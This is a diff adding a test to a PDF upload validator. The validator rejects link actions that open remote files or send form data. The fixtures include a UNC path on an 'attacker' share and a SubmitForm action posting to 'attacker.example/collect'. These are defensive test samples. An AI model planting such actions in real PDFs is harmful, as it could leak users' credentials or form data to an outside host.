@@ -277,6 +277,24 @@ describe("inspectUploadedPdf", () => {
       );
     });
 
+    it("actions that reach outside the document: another file (a network path), a form's data sent or imported; a web link is fine", async () => {
+      for (const action of [
+        { S: "GoToR", F: PDFString.of("\\\\attacker\\share\\x.pdf"), D: [0, "Fit"] },
+        { S: "GoToE", T: { R: "C", N: PDFString.of("x") } },
+        { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://attacker.example/collect") } },
+        { S: "ImportData", F: PDFString.of("data.fdf") },
+      ]) {
+        const { doc, pages } = await document();
+        annotate(doc, pages[0], { Subtype: "Link", A: action });
+        expect(await problemOf(await save(doc)), action.S).toBe(
+          "The PDF contains an action that opens another file or sends its form's data, which a contract's document may not carry; print it to PDF again and upload that.",
+        );
+      }
+      const linked = await document();
+      annotate(linked.doc, linked.pages[0], { Subtype: "Link", A: { S: "URI", URI: PDFString.of("https://example.com/terms") } });
+      expect(await inspectUploadedPdf(await save(linked.doc))).toMatchObject({ ok: true });
+    });
+
     it("embedded files: doc.attach, the names tree alone, an associated file alone, a file attachment annotation", async () => {
       const attached = await document();
       await attached.doc.attach(Buffer.from("hello"), "hello.txt", { mimeType: "text/plain" });
